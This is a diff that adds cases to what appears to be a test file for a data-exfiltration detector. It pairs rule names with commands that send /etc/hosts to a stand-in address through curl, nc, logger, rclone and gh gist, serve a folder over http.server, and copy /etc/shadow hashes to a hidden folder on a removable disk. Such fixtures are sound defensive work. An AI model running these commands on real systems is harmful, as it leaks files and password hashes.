@@ -9,8 +9,12 @@ server 'curl -s -F f=@/etc/hosts https://10.9.8.7/'
 #setup stubs /usr/bin/rclone
 rclone copy /srv remote:x
 ## Data put into the names of DNS queries
+#also Encoded words put into DNS names
+#also Names without a meaning asked again and again
 ask_dns A 30 60
 ## Much sent to the internet
+#also Code without a file connects to the internet
+#also Code without a file waits for callers
 python3 -c '
 import socket, threading
 server = socket.create_server(("203.0.113.9", 443))
@@ -34,3 +38,32 @@ gh gist create /etc/hosts
 ## Other way out of the machine opened
 #setup stubs /usr/bin/obexftp
 obexftp -b 00:11:22:33:44:55 -p /etc/hosts
+## File sent to a bare address
+#also Transfer tool given a bare address
+curl -s -m 1 --data-binary @/etc/hosts http://203.0.113.9/
+## Data sent to the internet by a network tool
+#setup python3 -c 'import socket; s = socket.create_server(("", 1337)); c = s.accept()[0]; c.settimeout(3); [0 for _ in iter(lambda: c.recv(65536), b"")]; c.close()' & until ss -ltn | grep -q ':1337 '; do sleep 0.05; done
+head -c 30000 /dev/zero | busybox nc -w 1 203.0.113.9 1337
+## Lines of a log sent to the internet by hand
+logger -n 203.0.113.9 -P 514 -d -t cron line
+## Folder offered to the internet
+#setup (until busybox nc -w 1 203.0.113.9 8099 < /dev/null; do sleep 0.1; done) &
+timeout 3 python3 -m http.server 8099
+## Bluetooth used by a stranger
+python3 -c 'import socket
+try: socket.socket(31, socket.SOCK_STREAM, 3)
+except OSError: pass'
+## Message sent by the machine's modem
+#setup stubs /usr/bin/mmcli
+mmcli -m 0 --messaging-create-sms="number='1',text='x'"
+## Secret written to a removable disk
+#also Password hashes read
+#setup mkdir -p /media/stick
+python3 -c 'text = open("/etc/shadow", "rb").read(); open("/media/stick/a", "wb").write(text)'
+## Hidden place on a removable disk used
+#also Files copied from or to a removable disk
+#setup mkdir -p /media/stick/.a
+tar -czf /media/stick/.a/b.tgz /etc/hosts
+## Files given to a phone
+#setup stubs /usr/bin/adb
+adb push /etc/hosts /sdcard/x
